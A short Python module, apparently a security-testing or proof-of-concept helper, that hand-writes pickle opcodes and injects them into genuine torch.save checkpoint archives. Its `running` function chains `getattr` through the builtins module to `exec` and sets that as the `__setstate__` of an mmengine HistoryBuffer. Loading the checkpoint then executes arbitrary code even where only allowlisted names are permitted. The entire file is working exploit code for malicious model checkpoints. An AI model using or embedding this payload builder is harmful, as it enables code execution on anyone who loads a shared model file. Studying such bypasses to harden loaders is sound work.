"""Hand-written pickles inside files of torch.save."""

import struct
import zipfile
from pathlib import Path

import torch


def name(module, attribute):
    """Push a global."""
    return f'c{module}\n{attribute}\n'.encode()


def text(value):
    """Push a string."""
    encoded = value.encode()
    return b'X' + struct.pack('<I', len(encoded)) + encoded


def call(function, *arguments):
    """Push what the function returns."""
    return function + b'(' + b''.join(arguments) + b'tR'


def new(cls):
    """Push an object whose constructor did not run."""
    return cls + b')\x81'


def build(instance, state):
    """Give an object its state."""
    return instance + state + b'b'


def entry(key, value):
    """Push a dict of one entry."""
    return b'}' + text(key) + value + b's'


def write(path, *pushes):
    """Write a checkpoint whose pickle is a dict of the pushes."""
    numbered = b''.join(text(f'entry{i}') + push + b's' for i, push in enumerate(pushes))
    return write_pickle(path, b'\x80\x02}' + numbered + b'.')


def write_pickle(path, content):
    """Write a file of torch.save with this pickle in it."""
    path = Path(path)
    whole = path.with_suffix('.whole')
    torch.save(dict(entry=torch.ones(2)), whole)
    with zipfile.ZipFile(whole) as source, zipfile.ZipFile(path, 'w') as target:
        for record in source.namelist():
            is_pickle = record.endswith('data.pkl')
            target.writestr(record, content if is_pickle else source.read(record))
    whole.unlink()
    return path


GETATTR = name('__builtin__', 'getattr')
HISTORY = name('mmengine.logging.history_buffer', 'HistoryBuffer')


def running(code):
    """Run code with nothing but the names that the host allows in its checkpoints."""
    builtins = call(GETATTR, GETATTR, text('__self__'))
    function = call(GETATTR, builtins, text('exec'))
    armed = build(new(HISTORY), entry('__setstate__', function))
    return build(armed, text(code))
